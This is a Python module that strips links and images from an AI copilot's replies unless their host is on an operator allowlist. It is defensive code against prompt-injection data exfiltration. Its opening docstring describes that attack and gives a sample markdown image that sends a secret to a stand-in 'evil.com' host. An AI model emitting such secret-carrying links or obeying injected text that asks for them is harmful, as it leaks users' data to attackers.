"""Outbound link allowlist for replies: prompt injection can exfiltrate data through a link or an image whose URL
carries it (`![x](https://evil.com/?q=<secret>)` is fetched by the chat app the moment it renders), so every URL
in a reply is kept only when its host is one the operator allowed (COPILOT_LINK_ALLOWLIST).

One regex pass finds markdown links and images, reference definitions, autolinks and Slack `<url|label>`, HTML
`<a href>`/`<img src>` and bare URLs; `urllib.parse` and the IDNA codec judge the host. Relative paths (our own
attachments, `charts/x.png`) are not links and stay; so do e-mail addresses, decimals and file names.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from urllib.parse import urlsplit

_CJK = re.compile(r"[\u3400-\u4dbf\u4e00-\u9fff\uf900-\ufaff]")
_MARK = {
    "en": {"link": " (link removed)", "image": "(image removed)", "url": "(link removed)"},
    "zh": {"link": "（链接已移除）", "image": "（图片已移除）", "url": "（链接已移除）"},
}
# A URL ends at whitespace, quotes, angle brackets and CJK text or punctuation (Chinese prose runs into URLs).
_STOP = "\\s<>\"'`\u3000-\u303f\u3400-\u4dbf\u4e00-\u9fff\uff00-\uffef"
_TRAIL = ".,;:!?)]}*_~'\""
_SCHEME = r"[a-zA-Z][a-zA-Z0-9+.\-]{0,30}+:"  # possessive: no backtracking over every word of prose
_OPAQUE = r"(?i:javascript|data|vbscript|mailto|file|blob):"  # schemes without // that still load or run
_WWW = r"(?i:www)\."
_LABEL = r"(?:[^\[\]\n]|\[[^\[\]\n]*\](?:\([^()\s]*\))?)*"  # one level of nesting: [![alt](img)](href)
_TARGET = r"\s*<?([^\s()<>]*(?:\([^\s()<>]*\)[^\s()<>]*)*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*"
_HOSTNAME = r"(?:[a-zA-Z0-9][a-zA-Z0-9\-]*+\.)++[a-zA-Z][a-zA-Z0-9\-]++"
_START = r"(?<![a-zA-Z0-9_@/.\-])(?=[a-zA-Z0-9])"  # a word start: mid-word positions fail at once
_ATTR = r"\s*=\s*(?:\"(?P<{0}>[^\"]*)\"|'(?P<{0}2>[^']*)'|(?P<{0}3>[^\s>]+))"

# Case-sensitive on purpose (scoped (?i:) only where needed): IGNORECASE makes the scan over prose ~3x slower.
_PATTERN = re.compile(
    rf"(?P<img>!\[(?P<alt>{_LABEL})\]\({_TARGET}\))"
    rf"|(?P<md>\[(?P<label>{_LABEL})\]\({_TARGET}\))"
    rf"|(?P<a><(?i:a)\b[^>]*?\b(?i:href){_ATTR.format('ahref')}[^>]*>(?P<atext>.*?)</(?i:a)\s*>)"
    rf"|(?P<tag><[a-zA-Z][a-zA-Z0-9]*\b[^>]*?\b(?i:src|href|action|poster|data|background|formaction)"
    rf"{_ATTR.format('tsrc')}[^>]*>)"
    rf"|(?P<angle><(?P<aurl>(?:{_SCHEME}|{_WWW})[^\s<>|]+)(?:\|(?P<alabel>[^<>]*))?>)"
    rf"|(?P<ref>^[ \t]{{0,3}}+\[[^\]\n]++\]:[ \t]*<?(?P<rurl>[^\s>]+)>?[^\n]*$)"
    rf"|(?P<bare>{_START}(?:{_SCHEME}//|{_OPAQUE}|{_WWW})[^{_STOP}]+)"
    rf"|(?P<host>{_START}{_HOSTNAME}(?::\d{{1,5}})?[/?][^{_STOP}]*)",
    re.MULTILINE,
)
_HAS_SCHEME = re.compile(rf"^(?:{_SCHEME}|//)")


@dataclass(frozen=True)
class LinkCheck:
    """The reply with outside links taken out, and what was taken out (for the log and the evals)."""

    text: str
    removed: list[str] = field(default_factory=list)


def normalize_host(host: str) -> str | None:
    """Lower-case ASCII (punycode) form of a host, or None when it cannot be a plain host name."""
    host = host.strip().rstrip(".").lower()
    for dot in ("\u3002", "\uff0e", "\uff61"):
        host = host.replace(dot, ".")
    if not host or (any(c in host for c in "%\\@/ :") and not _is_ipv6(host)):
        return None
    try:
        return host.encode("idna").decode("ascii").lower()
    except UnicodeError:
        return None


def _is_ipv6(host: str) -> bool:
    return host.startswith("[") and host.endswith("]")


def allowlist_entry(entry: str) -> str:
    """One allowlist entry as a host: `example.com`, `*.example.com` and `https://example.com/x` all mean the host
    and its subdomains. Raises ValueError for an entry that names no host."""
    raw = entry.strip()
    if "://" in raw:
        raw = urlsplit(raw).hostname or ""
    raw = raw.removeprefix("*.").lstrip(".")
    host = normalize_host(raw)
    if not host or ("." not in host and host != "localhost"):
        raise ValueError(f"{entry!r} is not a host name (e.g. docs.example.com)")
    return host


def split_allowlist(value: object) -> object:
    """COPILOT_LINK_ALLOWLIST as a comma-separated string (or a list), each entry normalised to its host."""
    if isinstance(value, str):
        value = [part for part in value.split(",") if part.strip()]
    if isinstance(value, (list, tuple)):
        return [allowlist_entry(str(item)) for item in value]
    return value


def url_host(url: str) -> str | None:
    """The host a URL would reach, or None when it reaches no plain host (data:, javascript:, userinfo tricks,
    backslashes, percent-encoded or malformed hosts): those are never allowed."""
    url = url.strip()
    if "\\" in url or any(ord(c) < 32 for c in url):
        return None
    if url.lower().startswith("www."):
        url = "http://" + url
    elif not _HAS_SCHEME.match(url):
        url = "http://" + url  # a scheme-less host/path found in prose
    try:
        parts = urlsplit(url)
        if parts.scheme.lower() not in ("http", "https", "ftp", "ftps", "ws", "wss"):
            return None
        netloc = parts.netloc
        if not netloc or "@" in netloc or "%" in netloc:
            return None
        host = parts.hostname
        _ = parts.port  # a malformed port raises
    except ValueError:
        return None
    return normalize_host(host) if host else None


def is_allowed(url: str, allowed: Sequence[str]) -> bool:
    if re.fullmatch(r"mailto:[^?&/\\]+@[^?&/\\]+", url.strip(), re.IGNORECASE):
        return True  # an e-mail address is not a link (one that pre-fills a body is)
    host = url_host(url)
    if host is None:
        return False
    return any(host == entry or host.endswith("." + entry) for entry in allowed)


def _is_link_target(url: str) -> bool:
    """A markdown/HTML target that leaves the reply (has a scheme, is protocol-relative or starts with www.);
    relative paths and anchors are our own and stay."""
    url = url.strip()
    return bool(_HAS_SCHEME.match(url)) or url.lower().startswith("www.")


def _split_trailing(url: str) -> tuple[str, str]:
    """Sentence punctuation after a bare URL is not part of it; a closing paren is, when the URL opened one."""
    end = len(url)
    while end and url[end - 1] in _TRAIL:
        if url[end - 1] == ")" and url[:end].count("(") >= url[:end].count(")"):
            break
        end -= 1
    return url[:end], url[end:]


def restrict_links(text: str, allowed: Sequence[str]) -> LinkCheck:
    """Keep links and images whose host is allowed (exact or a subdomain); drop the rest, keeping link labels."""
    hosts = [allowlist_entry(a) for a in allowed if a.strip()]
    mark = _MARK["zh" if _CJK.search(text) else "en"]
    removed: list[str] = []

    def check(url: str) -> bool:
        if is_allowed(url, hosts):
            return True
        removed.append(url)
        return False

    def inner(label: str) -> str:
        return _PATTERN.sub(replace, label) if label else label

    def replace(m: re.Match[str]) -> str:
        kind = m.lastgroup
        whole = m.group(0)
        if m.group("img") is not None:
            url = m.group(3)
            return whole if not _is_link_target(url) or check(url) else mark["image"]
        if m.group("md") is not None:
            url, label = m.group(6), m.group("label")
            if not _is_link_target(url) or check(url):
                return whole.replace(label, inner(label), 1) if label else whole
            return inner(label).strip() + mark["link"]
        if m.group("a") is not None:
            url, label = m.group("ahref") or m.group("ahref2") or m.group("ahref3") or "", m.group("atext")
            if not _is_link_target(url) or check(url):
                return whole.replace(label, inner(label), 1) if label else whole
            return inner(label) + mark["link"]
        if m.group("tag") is not None:
            url = m.group("tsrc") or m.group("tsrc2") or m.group("tsrc3") or ""
            return whole if not _is_link_target(url) or check(url) else mark["image"]
        if m.group("angle") is not None:
            url = m.group("aurl")
            if check(url):
                return whole
            label = m.group("alabel")
            return inner(label) + mark["link"] if label else mark["url"]
        if m.group("ref") is not None:
            url = m.group("rurl")
            return whole if not _is_link_target(url) or check(url) else mark["url"]
        url, tail = _split_trailing(whole)
        if kind == "host" and not _looks_like_url(url):
            return whole
        return whole if check(url) else mark["url"] + tail

    cleaned = _PATTERN.sub(replace, text)
    return LinkCheck(text=cleaned, removed=removed)


def _looks_like_url(candidate: str) -> bool:
    """A scheme-less `host.tld/...` found in prose: only with a path or query after the host, so file names
    (report.docx) and abbreviations (e.g.) never reach here; the TLD must be letters."""
    host = re.split(r"[/?:]", candidate, maxsplit=1)[0]
    tld = host.rsplit(".", 1)[-1]
    return tld.isalpha() and (len(candidate) > len(host) + 1 or candidate[len(host):].startswith("?"))
